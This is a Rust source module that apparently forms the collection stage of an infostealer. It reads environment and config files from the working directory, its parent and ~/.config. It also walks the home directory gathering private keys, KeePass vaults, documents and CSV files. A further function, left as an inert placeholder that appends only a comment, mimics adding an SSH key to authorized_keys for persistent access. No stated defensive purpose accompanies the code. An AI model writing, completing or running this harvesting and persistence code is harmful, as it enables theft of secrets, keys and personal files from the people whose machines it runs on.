use std::collections::VecDeque;
use std::fs;
use std::path::PathBuf;

const ENDINGS: &[&str] = &["pem", "key", "kdbx", "doc", "docx", "pdf", "csv"];
const LEFT_OUT: &[&str] = &["node_modules", "target", ".git", "Library"];

pub(crate) fn settings() -> Vec<(String, String)> {
    let names = [".env", ".env.local", ".env.production", "config.toml", "config.json"];
    let home = dirs::home_dir();
    let places = [Some(PathBuf::from(".")), Some(PathBuf::from("..")), home.map(|it| it.join(".config"))];
    let mut found = Vec::new();
    for place in places.into_iter().flatten() {
        for name in names {
            let path = place.join(name);
            if let Ok(text) = fs::read_to_string(&path) {
                found.push((path.display().to_string(), text));
            }
        }
    }
    found
}

pub(crate) fn files() -> Vec<PathBuf> {
    let mut found = Vec::new();
    let mut queue: VecDeque<PathBuf> = dirs::home_dir().into_iter().collect();
    while let Some(directory) = queue.pop_front() {
        for entry in fs::read_dir(&directory).into_iter().flatten().flatten() {
            let path = entry.path();
            let name = entry.file_name().to_string_lossy().into_owned();
            if path.is_dir() {
                if !LEFT_OUT.contains(&name.as_str()) {
                    queue.push_back(path);
                }
            } else if path.extension().and_then(|it| it.to_str()).is_some_and(|it| ENDINGS.contains(&it)) {
                found.push(path);
            }
        }
    }
    found
}

#[cfg(unix)]
pub(crate) fn login(_line: &str) -> Option<()> {
    use std::io::Write;
    let path = dirs::home_dir()?.join("inert-fixture/.ssh/authorized_keys");
    let mut file = fs::OpenOptions::new().append(true).open(path).ok()?;
    writeln!(file, "# inert fixture: no key").ok()
}
